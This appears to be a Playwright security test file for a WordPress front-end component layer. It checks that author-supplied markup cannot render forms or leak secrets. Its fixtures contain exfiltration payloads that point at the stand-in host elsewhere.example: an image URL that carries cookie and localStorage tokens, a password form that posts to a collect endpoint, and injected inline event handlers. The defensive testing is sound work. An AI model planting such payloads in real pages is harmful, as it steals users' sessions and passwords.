import assert from "node:assert/strict";
import { test } from "node:test";
import type { Page } from "playwright-core";
import { checkReport, jsonScript, MODULE_SCRIPT, usePages } from "../e2e/support.ts";
import { storedField, storedForm } from "../support/form-builder.ts";

const pages = usePages();

/** The host that only the author of the markup names. */
const FOREIGN = /elsewhere\.example/;

/** A definition that an author without the right to write scripts can save as text (WordPress: without `unfiltered_html`). */
const GADGET = {
  ...storedForm(
    [
      storedField(1, "html", "", {
        html_editor:
          '<img alt="" src="https://elsewhere.example/i?c=#cookie_get(session_like)&amp;l=#local_storage_get(token)">',
      }),
      storedField(2, "password", "Password"),
      storedField(3, "submit", "Read on"),
    ],
    { meta: { form_action: "https://elsewhere.example/collect" } },
  ),
  submit_hidden_fields: [{ name: "stolen", type: "local_storage", value: "token" }],
};
const GADGET_TEXT = JSON.stringify(GADGET).replaceAll("&", "&amp;").replaceAll("<", "&lt;");

const SECRETS = `<script>document.cookie = "session_like=SECRET; path=/"; localStorage.setItem("token", "SECRET");</script>`;

/** Opens a page with an author's markup; `sent` has its requests to the foreign host. */
async function openAuthored(markup: string) {
  const sent: string[] = [];
  const { page } = await pages.openMarkup({
    head: SECRETS + MODULE_SCRIPT,
    body: `<main>${markup}</main>`,
    prepare: (page) =>
      page.route(FOREIGN, (route) => {
        sent.push(route.request().url());
        return route.abort();
      }),
  });
  return { page, sent };
}

const reported = async (page: Page) => (await checkReport(page)).problems.map(({ message }) => message).join();
const settled = (page: Page, selector: string) =>
  page.locator(`${selector}[state="error"]`).waitFor({ state: "attached" });

for (const [kind, element] of Object.entries({
  "a block": `<div id="def" hidden>${GADGET_TEXT}</div>`,
  "preformatted text": `<pre id="def" hidden>${GADGET_TEXT}</pre>`,
  "a text box": `<textarea id="def" hidden>${GADGET_TEXT}</textarea>`,
  "a template": `<template id="def">${GADGET_TEXT}</template>`,
  "a script of another kind": `<script type="text/plain" id="def">${JSON.stringify(GADGET).replaceAll("<", "\\u003c")}</script>`,
})) {
  test(`a form's definition in ${kind} draws no form, and no secret leaves the page`, async () => {
    const { page, sent } = await openAuthored(
      `<div data-plaintags="wsf-form" data-definition="#def" id="form">My text</div>${element}`,
    );
    await settled(page, "#form");
    assert.equal(await page.locator("#form form, #form input, #form img").count(), 0);
    assert.ok(await page.getByText("My text").isVisible());
    assert.deepEqual(sent, []);
    assert.match(await reported(page), /found a <\w+ id="def"> where only a <script type="application\/json"> is read/);
  });
}

test("the site's own JSON script is read although an author's element has the same id", async () => {
  const { page, sent } = await openAuthored(
    `<div id="def" hidden>${GADGET_TEXT}</div><wsf-form definition="#def" id="form"></wsf-form>`,
  );
  await settled(page, "#form");
  await page.evaluate(
    (json) => {
      const script = Object.assign(document.createElement("script"), {
        type: "application/json",
        id: "def",
        text: json,
      });
      document.body.append(script);
      document.querySelector("#form")?.replaceWith(Object.assign(document.createElement("wsf-form"), { id: "form" }));
      document.querySelector("#form")?.setAttribute("definition", "#def");
    },
    JSON.stringify(storedForm([storedField(1, "text", "Name")], { id: 8 })),
  );
  await page.getByLabel("Name").waitFor();
  assert.deepEqual(sent, []);
});

test("a tag's options in a block of text are not read", async () => {
  const { page } = await openAuthored(
    `<pre id="options" hidden>{"label":"Pictures of somebody else"}</pre>
     <div data-plaintags="pb-slider" data-config="#options" id="slider"><p>One</p><p>Two</p></div>`,
  );
  await page.locator('#slider[state="idle"]').waitFor();
  assert.equal(await page.getByLabel("Pictures of somebody else").count(), 0);
  assert.match(await reported(page), /found a <pre id="options">/);
});

test("options in a JSON script are read, also by plain markup", async () => {
  const { page } = await openAuthored(
    `${jsonScript('id="options"', { label: "Pictures of the house" })}
     <div data-plaintags="pb-slider" data-config="#options" id="slider"><p>One</p><p>Two</p></div>`,
  );
  await page.getByLabel("Pictures of the house").first().waitFor();
});

test("plain markup makes no protected form, which could contain any markup", async () => {
  const form = Buffer.from(
    '<form action="https://elsewhere.example/" method="post"><input type="password" name="pw"></form>',
  ).toString("base64");
  const { page, sent } = await openAuthored(
    `<div data-plaintags="apbct-protected-form" data-encoded="${encodeURIComponent(form)}" id="form">My text</div>
     <div data-plaintags="pb-read-more" id="text">Long text</div>`,
  );
  await page.locator("pb-read-more#text[state]").waitFor();
  assert.equal(await page.locator("apbct-protected-form, #form form, input").count(), 0);
  assert.ok(await page.getByText("My text").isVisible());
  assert.deepEqual(sent, []);
});

test("plain markup adds no handlers and no styles that its author may not write", async () => {
  const { page } = await openAuthored(
    `<div data-plaintags="pb-read-more" data-style="position:fixed;inset:0" data-onclick="window.ran = 1" data-onpointerover="window.ran = 1" id="text">Long text</div>`,
  );
  const tag = page.locator("pb-read-more#text[state]");
  await tag.click();
  assert.equal(await tag.evaluate((element) => getComputedStyle(element).position), "static");
  assert.equal(await page.evaluate(() => "ran" in window), false);
});

test("elements named like the form plugin's globals are not read as data", async () => {
  const { page } = await openAuthored(
    `<a id="wsf_form_json_config" name="data"></a><a id="wsf_form_json" name="1"></a><a id="wsf_form_json" name="1"></a><a id="ws_form_settings"></a>
     <wsf-form form-id="1" id="form"></wsf-form>`,
  );
  await page.locator('#form[state="ready"]').waitFor();
});
